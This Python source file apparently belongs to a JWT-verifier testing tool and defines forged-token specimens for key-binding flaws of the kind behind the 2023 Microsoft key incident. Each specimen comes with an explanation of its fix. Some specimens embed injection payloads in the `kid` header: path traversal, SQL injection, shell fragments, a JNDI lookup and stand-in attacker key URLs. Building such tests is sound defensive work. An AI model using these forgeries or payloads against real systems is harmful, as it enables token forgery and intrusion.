"""The key: which one is taken, whether it still counts, and for whom it may speak."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any, Final

from brokenseal.tokens._sealing import ABSENT, compact, json_bytes, sign, signing_input
from brokenseal.tokens.forgeries.algorithms import by_secret
from brokenseal.tokens.laboratory import issuer_of
from brokenseal.tokens.model import CONSUMER_TENANT
from brokenseal.tokens.specimen import Gravity, Specimen

if TYPE_CHECKING:
    from collections.abc import Mapping

    from brokenseal.tokens.laboratory import Laboratory
    from brokenseal.tokens.specimen import Make

_SPEAKS: Final = (
    "The signature is checked, but not whether that key may speak for that issuer. Whoever holds the key of one "
    "family of accounts is anybody in every other: this is the fault of 2023."
)
_SPEAKS_MEND: Final = (
    "Keep the `issuer` that the key document names for each key; put the token's `tid` for `{tenantid}` and demand "
    "that the result equals `iss` exactly."
)
_SPEAKS_SOURCES: Final = (
    "Microsoft identity platform, signing key rollover and issuer validation",
    "MSRC, 6 September 2023",
)
_STANDS_MEND: Final = (
    "Give every key an end, compare it with the time of issue, and drop keys that are withdrawn at once; report keys "
    "that are still trusted after their end."
)
_LOOKUP: Final = "The key id is used as more than a name: the sender chooses the key with which the token is verified."
_LOOKUP_MEND: Final = (
    "Compare `kid` with the published ids as text and exactly; refuse what is no text, is long or is unknown. Never "
    "use it in a path, a query, a command or an address."
)
_LOOKUP_SOURCES: Final = ("RFC 8725 §3.10", "RFC 7515 §4.1.4")


def under_kid(
    lab: Laboratory, kid: Any, *, signer: str, alg: str = "RS256", claims: Mapping[str, Any] | None = None
) -> str:
    """A token whose header has this key id (or none) and whose signature is made by another key."""
    head = json_bytes(lab.header(alg=alg, changes={"kid": kid}))
    body = json_bytes(lab.claims(claims))
    return compact(head, body, sign(lab.keys[signer].private, alg, signing_input(head, body)))


def _kids(lab: Laboratory, kids: Mapping[str, Any], *, signer: str = "attacker") -> dict[str, str]:
    return {label: under_kid(lab, kid, signer=signer) for label, kid in kids.items()}


def _genuine_kids(lab: Laboratory, *changed: str) -> dict[str, str]:
    return {ascii(kid): under_kid(lab, kid, signer="enterprise") for kid in changed}


def _backdated(lab: Laboratory) -> dict[str, str]:
    then = 1_617_235_200  # 2021-04-01, three days before the key's end
    return {
        "long life": lab.mint({"iat": then, "nbf": then}, key="retired"),
        "without times": lab.mint({"iat": ABSENT, "nbf": ABSENT}, key="retired"),
    }


def _row(
    name: str,
    gravity: Gravity,
    tests: str,
    make: Make,
    *,
    meaning: str = _SPEAKS,
    mend: str = _SPEAKS_MEND,
    sources: tuple[str, ...] = _SPEAKS_SOURCES,
    needs: str | None = None,
) -> Specimen:
    return Specimen(
        name=name,
        family="keys",
        gravity=gravity,
        tests=tests,
        meaning=meaning,
        mend=mend,
        sources=sources,
        make=make,
        needs=needs,
    )


def _standing(name: str, tests: str, make: Make, meaning: str) -> Specimen:
    return _row(
        name,
        Gravity.MISUSE,
        tests,
        make,
        meaning=meaning,
        mend=_STANDS_MEND,
        sources=("RFC 8725 §3.10", "Cyber Safety Review Board, report on the summer 2023 intrusion"),
    )


def _lookup(name: str, gravity: Gravity, tests: str, make: Make, *sources: str) -> Specimen:
    return _row(name, gravity, tests, make, meaning=_LOOKUP, mend=_LOOKUP_MEND, sources=(*_LOOKUP_SOURCES, *sources))


FORGERIES: Final = (
    _row(
        "consumer_key_for_enterprise",
        Gravity.MISUSE,
        "The key of personal accounts signs a token of an enterprise tenant.",
        lambda lab: {
            "v2": lab.mint(key="consumer"),
            "v1": lab.mint(key="consumer", version=1),
            "other tenant": lab.mint(key="consumer", tenant=lab.partner),
        },
    ),
    _row(
        "consumer_key_for_application",
        Gravity.MISUSE,
        "The key of personal accounts signs a token of an enterprise application, which may read every mailbox.",
        lambda lab: {"v2": lab.mint(key="consumer", kind="app"), "v1": lab.mint(key="consumer", kind="app", version=1)},
    ),
    _row(
        "consumer_key_for_enterprise_tenant",
        Gravity.MISUSE,
        "The consumer key signs a token with its own issuer and the enterprise's tenant, or with no issuer at all.",
        lambda lab: {
            "consumer issuer": lab.mint({"iss": issuer_of(CONSUMER_TENANT)}, key="consumer"),
            "v1": lab.mint({"iss": issuer_of(CONSUMER_TENANT, 1)}, key="consumer", version=1),
            "no issuer": lab.mint({"iss": ABSENT}, key="consumer"),
        },
        meaning="Key and issuer agree, but issuer and tenant do not: personal accounts become those of a company.",
        mend="Demand that the tenant in the path of `iss` equals `tid`, besides the binding of the key.",
    ),
    _row(
        "other_tenants_key",
        Gravity.MISUSE,
        "The signing key that one tenant has for itself signs a token of another tenant.",
        lambda lab: {
            "v2": lab.mint(key="partner"),
            "v1": lab.mint(key="partner", version=1),
            "its own issuer": lab.mint({"iss": issuer_of(lab.partner)}, key="partner"),
        },
    ),
    _row(
        "tenants_key_for_consumers",
        Gravity.MISUSE,
        "The signing key of one tenant signs a token of the consumer tenant.",
        lambda lab: lab.mint(key="partner", tenant=CONSUMER_TENANT),
    ),
    _row(
        "same_kid_in_other_document",
        Gravity.MISUSE,
        "Two documents publish the same key id; the token is signed by the one that is not the enterprise's.",
        lambda lab: lab.mint(key="twin"),
        meaning="Documents are merged by key id alone, so that one provider can replace the key of another.",
        mend="Look keys up by document and key id, or by issuer and key id; never merge documents by id alone.",
        sources=("RFC 8725 §3.8", "RFC 7517 §4.5"),
    ),
    _row(
        "key_without_known_issuer",
        Gravity.MISUSE,
        "The key stands in a document that names no issuer for it.",
        lambda lab: lab.mint(key="unbound"),
        meaning="A key of unknown binding is taken as one that may speak for everybody.",
        mend="Treat a key without an issuer as one that may speak for nobody until it is known; load v2.0 documents.",
    ),
    _row(
        "encryption_key_signs",
        Gravity.MISUSE,
        "The key is published with `use` `enc`.",
        lambda lab: lab.mint(key="encryption"),
        meaning="Whoever runs a service that decrypts holds a key with which the verifier is deceived.",
        mend="Take only keys whose `use` is `sig` and whose `key_ops`, where given, holds `verify`.",
        sources=("RFC 7517 §4.2", "RFC 8725 §3.10"),
    ),
    _row(
        "weak_key",
        Gravity.MISUSE,
        "The key is an RSA key of 1024 bits that an old document still publishes.",
        lambda lab: lab.mint(key="weak"),
        meaning="A key that can be factored with enough money signs for every tenant.",
        mend="Refuse RSA keys below 2048 bits when key documents are loaded.",
        sources=("RFC 7518 §3.3",),
    ),
    _standing(
        "retired_key",
        "The key's time ended in 2021, and the document still publishes it.",
        lambda lab: {"v2": lab.mint(key="retired"), "v1": lab.mint(key="retired", version=1)},
        "A key that was forgotten is trusted for ever: the key of 2023 had expired in April 2021.",
    ),
    _standing(
        "retired_key_backdated",
        "The retired key signs a token that says it was issued before the key's end, or not when.",
        _backdated,
        "Whoever holds a retired key dates its tokens back and keeps access.",
    ),
    _standing(
        "revoked_key",
        "The key was revoked; what it signs counts no more, whatever the token says.",
        lambda lab: {"v2": lab.mint(key="revoked"), "app": lab.mint(key="revoked", kind="app")},
        "A key that is known to be stolen is still believed.",
    ),
    _standing(
        "withdrawn_key",
        "The key was published once and is published no more.",
        lambda lab: lab.mint(key="withdrawn"),
        "Keys are kept after the provider has withdrawn them.",
    ),
    _row(
        "strangers_key",
        Gravity.BREACH,
        "Signed by a key that nobody ever published, under its own id.",
        lambda lab: lab.mint(key="attacker"),
        meaning="Anybody can sign: the signature is not verified, or an unknown key is let through.",
        mend="Refuse a token whose key is unknown; a library that returns without a key has not verified.",
        sources=("RFC 7515 §5.2", "RFC 8725 §3.10"),
    ),
    _row(
        "strangers_key_under_genuine_kid",
        Gravity.BREACH,
        "Signed by a stranger's key under the id of a published key.",
        lambda lab: {
            "RSA": under_kid(lab, lab.keys["enterprise"].kid, signer="attacker"),
            "elliptic": under_kid(lab, lab.keys["elliptic"].kid, signer="attacker_elliptic", alg="ES256"),
        },
        meaning="Anybody can sign: the signature is not verified at all.",
        mend="Verify the signature before anything of the token is believed.",
        sources=("RFC 7515 §5.2", "RFC 8725 §3.2"),
    ),
    _lookup(
        "kid_left_out_by_stranger",
        Gravity.BREACH,
        "The header names no key; signed by a stranger.",
        lambda lab: under_kid(lab, ABSENT, signer="attacker"),
    ),
    _row(
        "kid_left_out_by_consumer_key",
        Gravity.MISUSE,
        "The header names no key; signed by the consumer key for an enterprise tenant.",
        lambda lab: under_kid(lab, ABSENT, signer="consumer"),
        meaning="All keys are tried until one fits, so that any published key may speak for any issuer.",
    ),
    _lookup(
        "kid_left_out",
        Gravity.LAXITY,
        "The header names no key; signed by the genuine one.",
        lambda lab: under_kid(lab, ABSENT, signer="enterprise"),
        "Microsoft identity platform, access token header",
    ),
    _row(
        "kid_names_another_key",
        Gravity.MISUSE,
        "The header names the enterprise key, the signature is the consumer key's.",
        lambda lab: under_kid(lab, lab.keys["enterprise"].kid, signer="consumer"),
        meaning="All keys are tried until one fits, so that the binding of the named key says nothing.",
        mend="Verify with the key that the header names and with no other.",
        sources=("RFC 7515 §4.1.4", "RFC 8725 §3.10"),
    ),
    _row(
        "kid_names_next_key",
        Gravity.LAXITY,
        "The header names the current key, the signature is the next one's.",
        lambda lab: under_kid(lab, lab.keys["enterprise"].kid, signer="enterprise_next"),
        meaning="All keys are tried until one fits.",
        mend="Verify with the key that the header names and with no other.",
        sources=("RFC 7515 §4.1.4",),
    ),
    _lookup(
        "kid_of_wrong_type",
        Gravity.BREACH,
        "The key id is no text; signed by a stranger.",
        lambda lab: _kids(
            lab,
            {
                "empty": "",
                "null": None,
                "number": 0,
                "true": True,
                "list": [lab.keys["enterprise"].kid],
                "object": {"kid": lab.keys["enterprise"].kid},
            },
        ),
    ),
    _lookup(
        "kid_of_wrong_type_by_genuine_key",
        Gravity.LAXITY,
        "The key id is a list or an object that holds the genuine id; signed by the genuine key.",
        lambda lab: _kids(
            lab,
            {"list": [lab.keys["enterprise"].kid], "object": {"kid": lab.keys["enterprise"].kid}},
            signer="enterprise",
        ),
    ),
    _lookup(
        "kid_as_path",
        Gravity.BREACH,
        "The key id is a path to a file whose content is known; signed by HMAC with that content.",
        lambda lab: {
            kid: by_secret(lab, b"", header={"kid": kid})
            for kid in (
                "../../../../../../dev/null",
                "/dev/null",
                "..\\..\\nul",
                "file:///dev/null",
                "keys/../../dev/null\0.pem",
            )
        },
    ),
    _lookup(
        "kid_as_query",
        Gravity.BREACH,
        "The key id is a piece of SQL that returns a secret of the sender's; signed by HMAC with it.",
        lambda lab: {
            f"form {number}": by_secret(lab, b"secret", header={"kid": kid})
            for number, kid in enumerate(
                ("x' UNION SELECT 'secret", "x' UNION SELECT 'secret'-- -", "' OR '1'='1", '" OR ""="', "x'||'"), 1
            )
        },
    ),
    _lookup(
        "kid_as_command",
        Gravity.BREACH,
        "The key id is a piece of a command line or of a template; signed by a stranger.",
        lambda lab: _kids(lab, {kid: kid for kid in ("| id", "$(id)", "`id`", "${jndi:ldap://a.example}", "{{7*7}}")}),
    ),
    _lookup(
        "kid_as_address",
        Gravity.BREACH,
        "The key id is the address of a stranger's key document; signed by the stranger.",
        lambda lab: _kids(lab, {kid: kid for kid in ("https://keys.attacker.example/1", "//keys.attacker.example/1")}),
    ),
    _lookup(
        "kid_pattern",
        Gravity.LAXITY,
        "The key id is a pattern that matches the genuine one; signed by the genuine key.",
        lambda lab: _genuine_kids(
            lab, "*", "%", ".*", lab.keys["enterprise"].kid[:8], f"{lab.keys['enterprise'].kid[:8]}%"
        ),
    ),
    _lookup(
        "kid_huge",
        Gravity.BREACH,
        "The key id has 12,000 characters; signed by a stranger.",
        lambda lab: under_kid(lab, "k" * 12_000, signer="attacker"),
    ),
    _lookup(
        "kid_in_other_case",
        Gravity.LAXITY,
        "The key id in swapped letter case; signed by the genuine key.",
        lambda lab: _genuine_kids(lab, lab.keys["enterprise"].kid.swapcase()),
    ),
    _lookup(
        "kid_with_something_beside",
        Gravity.LAXITY,
        "The key id with a space, a zero character or an invisible one beside it; signed by the genuine key.",
        lambda lab: _genuine_kids(
            lab,
            *(f"{lab.keys['enterprise'].kid}{tail}" for tail in (" ", "\0", "\n", "\u200b")),
            f" {lab.keys['enterprise'].kid}",
        ),
    ),
    _lookup(
        "thumbprint_names_other_key",
        Gravity.MISUSE,
        "`kid` names the enterprise key, `x5t` the consumer key that signed; and `x5t` alone.",
        lambda lab: {
            "both": lab.mint(
                key="consumer", header={"kid": lab.keys["enterprise"].kid, "x5t": lab.keys["consumer"].x5t}
            ),
            "x5t alone": lab.mint(key="consumer", header={"kid": ABSENT, "x5t": lab.keys["consumer"].x5t}),
        },
    ),
)
